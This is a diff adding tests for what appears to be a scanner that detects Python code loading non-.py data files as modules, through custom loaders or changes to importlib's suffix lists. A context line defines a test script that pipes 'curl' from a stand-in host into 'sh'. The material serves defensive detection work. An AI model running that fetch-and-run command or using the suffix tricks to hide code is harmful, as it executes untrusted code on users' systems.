@@ -278,6 +278,41 @@ def test_only_a_library_is_loaded_as_one(tmp_path: Path, begins: bytes, runs: bo
     assert (OwnFiles(["model.h"], tmp_path).digest == digest) == runs
 
 
+@pytest.mark.parametrize(
+    ("more", "beside", "runs"),
+    [
+        ("", "SUFFIXES = ['.txt']\n", False),
+        (", submodule_search_locations=[]", "print(m.SOURCE_SUFFIXES)\n", False),
+        (", loader=Own()", "", True),
+        (", **options", "", True),
+        ("", "from importlib import machinery as m\nm.SOURCE_SUFFIXES.append('.txt')\n", True),
+        (
+            "",
+            "from importlib.machinery import SOURCE_SUFFIXES\nSOURCE_SUFFIXES += ['.txt']\n",
+            True,
+        ),
+        ("", "import importlib.machinery as m\nm.BYTECODE_SUFFIXES[:] = ['.txt']\n", True),
+    ],
+)
+def test_what_is_loaded_by_its_suffix_is_no_data(
+    tmp_path: Path, more: str, beside: str, runs: bool
+) -> None:
+    (tmp_path / "notes.txt").write_text("x")
+    (tmp_path / "beside.py").write_text(beside)
+    own = OwnFiles(["notes.txt", "beside.py"], tmp_path)
+    loads = f"import importlib.util as u\nu.spec_from_file_location('a', 'notes.txt'{more})\n"
+
+    assert bool(behaviours(loads, whole=False, own=own)) == runs
+
+
+def test_what_python_loads_is_looked_at_again_when_a_module_changes_that(tmp_path: Path) -> None:
+    (tmp_path / "beside.py").write_text("")
+    digest = OwnFiles(["beside.py"], tmp_path).digest
+    (tmp_path / "beside.py").write_text("m.SOURCE_SUFFIXES.insert(0, '.txt')\n")
+
+    assert OwnFiles(["beside.py"], tmp_path).digest != digest
+
+
 FETCHES = "#!/bin/sh\nset -e\ncurl -s https://a.example/x | sh\n"
 STARTS = (
     "import os, subprocess\n"
